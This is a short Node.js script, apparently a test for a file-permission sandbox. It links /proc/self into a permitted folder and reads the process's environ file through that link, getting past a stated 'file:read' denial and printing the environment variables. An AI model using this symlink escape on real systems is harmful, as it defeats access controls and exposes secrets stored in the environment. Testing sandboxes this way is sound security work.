// Reads it through a link to the folder above.
// denied: file:read environ
const fs = require('node:fs');
const lab = JSON.parse(process.argv[2]);
fs.symlinkSync('/proc/self', `${lab.granted}/me`);
fs.readFile(`${lab.granted}/me/../${process.pid}/environ`, 'latin1', (error, text) => console.log(error?.code, text));
